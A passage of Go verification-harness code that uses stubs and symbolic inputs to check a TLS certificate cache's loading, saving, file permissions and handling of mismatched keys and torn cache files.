	pairCert = append([]byte{}, data...)
	return &pem.Block{Type: "CERTIFICATE", Bytes: []byte{1}}, nil
}

// Key material is opaque to the solver; what matters is whether the private key in the cache
// goes with the certificate's public key.  That fact is one symbolic boolean, keyMatches,
// which every library routine able to establish it reports: tls.X509KeyPair fails on a
// mismatch (its documented behaviour), the Equal methods return it.
var (
	keyMatches  bool
	pemFails    bool
	pkcs8Fails  bool
	equalCalls  int
	stubPrivKey *ecdsa.PrivateKey
)

type stubCurve struct{}

func (stubCurve) Params() *elliptic.CurveParams                      { return nil }
func (stubCurve) IsOnCurve(x, y *big.Int) bool                       { return true }
func (stubCurve) Add(x1, y1, x2, y2 *big.Int) (*big.Int, *big.Int)   { return nil, nil }
func (stubCurve) Double(x1, y1 *big.Int) (*big.Int, *big.Int)        { return nil, nil }
func (stubCurve) ScalarMult(x, y *big.Int, k []byte) (a, b *big.Int) { return nil, nil }
func (stubCurve) ScalarBaseMult(k []byte) (x, y *big.Int)            { return nil, nil }

var theCurve elliptic.Curve = stubCurve{}

func stubParsePKCS8(der []byte) (any, error) {
	if pkcs8Fails {
		return nil, errors.New("x509: failed to parse private key")
	}
	stubPrivKey = &ecdsa.PrivateKey{PublicKey: ecdsa.PublicKey{Curve: theCurve}}
	return stubPrivKey, nil
}
func stubParseECKey(der []byte) (*ecdsa.PrivateKey, error) {
	k, err := stubParsePKCS8(der)
	if err != nil {
		return nil, err
	}
	return k.(*ecdsa.PrivateKey), nil
}
func stubECPubEqual(pub *ecdsa.PublicKey, x crypto.PublicKey) bool  { equalCalls++; return keyMatches }
func stubECPrivEqual(k *ecdsa.PrivateKey, x crypto.PrivateKey) bool { equalCalls++; return keyMatches }
func stubECPublic(k *ecdsa.PrivateKey) crypto.PublicKey             { return &k.PublicKey }
func stubTimeFormat(t time.Time, layout string) string              { return "T" }

// pemish: n symbolic bytes forming newline-terminated lines none of which is a txtar marker
func pemish(n int) []byte { return pemishKind(n, 'C') }

// pemishKind: the first byte tells the stubs which kind of PEM text this stands for
// ('C' certificate, 'K' private key).
func pemishKind(n int, kind byte) []byte {
	b := append([]byte{kind}, nondetBytes(n, 0)...)
	for i := 1; i < len(b); i++ {
		verifAssume(b[i] != '\n' && b[i] != '-' && b[i] != '\r')
	}
	return append(b, '\n')
}

// HarnessC08Get: the three-way decision of GetCertificate.
func HarnessC08Get() {
	readClass = nondetChoice(3)
	shape := nondetChoice(4) // archive shape when readable: 0 complete, 1 cert missing, 2 key missing, 3 garbage
	c, k := pemish(2), pemishKind(2, 'K')
	switch shape {
	case 0:
		fileData = txtar.Format(&txtar.Archive{Comment: []byte("Generated T"), Files: []txtar.File{{Name: "cert", Data: c}, {Name: "key", Data: k}}})
	case 1:
		fileData = txtar.Format(&txtar.Archive{Files: []txtar.File{{Name: "key", Data: k}}})
	case 2:
		fileData = txtar.Format(&txtar.Archive{Files: []txtar.File{{Name: "cert", Data: c}}})
	default:
		fileData = nondetBytes(3, 0)
	}
	mkdirFails, writeFails = nondetBool(), nondetBool()
	dangling = readClass == 1 && nondetBool()
	pairFails, parseFails, genFails = nondetBool(), nondetBool(), nondetBool()
	keyMatches, pkcs8Fails, pemFails = nondetBool(), nondetBool(), nondetBool()
	useCache := nondetBool()
	certFile := ""
	if useCache {
		certFile = "cache/dir/cert.txtar"
	}
	cert, err := GetCertificate("", nil, nil, 0, certFile)

	if !useCache {
		verifAssert(reads == 0 && len(mkdirs) == 0 && len(writes) == 0, "C08.no-cache-no-filesystem")
		verifAssert((err == nil) == !genFails, "C08.no-cache-generates")
		verifReach("C08.nocache")
		return
	}
	verifAssert(reads == 1, "C08.cache-read-once")
	if readClass == 0 && shape == 0 && !keyMatches {
		// a cache whose key does not go with its certificate (a damaged key member) is never served
		ok := err != nil
		if verifCanary() {
			ok = err == nil
		}
		verifAssert(ok, "C08.mismatched-key-is-never-served")
	}
	loadOK := readClass == 0 && shape == 0 && err == nil
	mustLoad := readClass == 0 && shape == 0 && !pairFails && !parseFails && !pkcs8Fails && !pemFails && keyMatches
	if mustLoad {
		verifAssert(err == nil, "C08.intact-cache-is-loaded")
	}
	switch {
	case loadOK:
		verifAssert(len(cert.Certificate) >= 1 && cert.Certificate[0][0] == 1, "C08.cached-certificate-is-served")
		// the parsed leaf (from which the advertised fingerprint is computed) is the FIRST certificate,
		// the one crypto/tls presents
		verifAssert(cert.Leaf != nil && len(cert.Leaf.Raw) == 1 && cert.Leaf.Raw[0] == 1, "C05.leaf-is-the-served-certificate")
		verifAssert(genCalls == 0 && len(mkdirs) == 0 && len(writes) == 0, "C08.existing-cache-never-rewritten")
		verifAssert(string(pairCert) == string(c) && string(pairKey) == string(k), "C08.key-pair-built-from-the-cached-members")
		verifReach("C08.loaded")
	case readClass == 1:
		// missing file: regenerate and save
		if genFails {
			verifAssert(err != nil && len(writes) == 0, "C08.generation-failure-reported")
			return
		}
		verifAssert(len(mkdirs) == 1 && mkdirs[0].path == "cache/dir" && mkdirs[0].perm == 0o700, "C08.directories-owner-only")
		if mkdirFails {
			verifAssert(err != nil && len(writes) == 0, "C08.mkdir-failure-reported")
			return
		}
		verifAssert(len(writes) == 1 && writes[0].name == certFile && writes[0].perm == 0o600, "C08.cache-file-owner-only-written-once")
		if len(writes) == 1 && (!writeFails || writes[0].data != nil) {
			a := txtar.Parse(writes[0].data)
			okShape := len(a.Files) == 2 && a.Files[0].Name == "cert" && a.Files[1].Name == "key"
			verifAssert(okShape, "C08.saved-archive-shape")
			if okShape {
				same := string(a.Files[0].Data) == string(genCert) && string(a.Files[1].Data) == string(genKey)
				if verifCanary() {
					same = string(a.Files[0].Data) == string(genKey)
				}
				verifAssert(same, "C08.saved-members-are-the-served-key-pair")
			}
		}
		if writeFails {
			verifAssert(err != nil, "C08.save-failure-reported")
			return
		}
		verifAssert(err == nil && len(cert.Certificate) == 1 && cert.Certificate[0][0] == 2, "C08.generated-certificate-is-served")
		verifReach("C08.generated")
	default:
		// unreadable, incomplete or damaged cache: error, never a silently different key, never a rewrite
		verifAssert(err != nil, "C08.damaged-cache-is-an-error")
		verifAssert(genCalls == 0 && len(mkdirs) == 0 && len(writes) == 0, "C08.damaged-cache-never-regenerated-or-rewritten")
		verifReach("C08.damaged")
	}
}

// HarnessC08RoundTrip: what one run saves is what the next run feeds to X509KeyPair.
func HarnessC08RoundTrip() {
	n := verifParam("n")
	c, k := pemish(n), pemishKind(n, 'K')
	writes = nil
	readClass, dangling = 1, false // nothing at the cache path yet
	keyMatches, pairFails, parseFails, pkcs8Fails, pemFails = true, false, false, false, false
	err := SaveCertificate("d/cert.txtar", c, k)
	verifAssert(err == nil && len(writes) == 1, "C08.rt.saved")
	if len(writes) != 1 {
		return
	}
	fileData = writes[0].data
	readClass = 0
	pairCalls = 0
	_, err = LoadCachedCertificate("d/cert.txtar")
	verifAssert(err == nil && pairCalls >= 1, "C08.rt.loaded")
	verifAssert(string(pairCert) == string(c) && string(pairKey) == string(k), "C08.rt.same-key-material-after-restart")
	verifReach("C08.rt.end")
}

// HarnessC08Torn: every prefix of a saved cache file either fails to load or hands
// X509KeyPair a prefix of the certificate member and a prefix of the key member.
func HarnessC08Torn() {
	n := verifParam("n")
	c, k := pemish(n), pemishKind(n, 'K')
	full := txtar.Format(&txtar.Archive{Comment: []byte("Generated T"), Files: []txtar.File{{Name: "cert", Data: c}, {Name: "key", Data: k}}})
	cut := nondetLen(len(full))
	keyMatches, pairFails, parseFails, pkcs8Fails, pemFails = true, false, false, false, false
	fileData = full[:cut]
	readClass = 0
	pairCalls = 0
	_, err := LoadCachedCertificate("d/cert.txtar")
	if pairCalls == 0 {
		verifAssert(err != nil, "C08.torn.incomplete-file-is-an-error")
		verifReach("C08.torn.rejected")
		return
	}
	isPre := func(p, whole []byte) bool {
		// txtar.Parse terminates a cut-off last line with a newline of its own
		if len(p) > 0 && p[len(p)-1] == '\n' && (len(p) > len(whole) || whole[len(p)-1] != '\n') {
			p = p[:len(p)-1]
		}
		if len(p) > len(whole) {
			return false
		}
		return string(whole[:len(p)]) == string(p)
	}
	// the certificate member may be followed by a partial marker line when the cut falls inside "-- key --"
	certOK := isPre(pairCert, c) || (len(pairCert) >= len(c) && string(pairCert[:len(c)]) == string(c) && isPre(pairCert[len(c):], []byte("-- key --")))
	verifAssert(certOK, "C08.torn.cert-is-prefix-of-original")
	verifAssert(isPre(pairKey, k), "C08.torn.key-is-prefix-of-original")
	verifReach("C08.torn.passed-on")
}
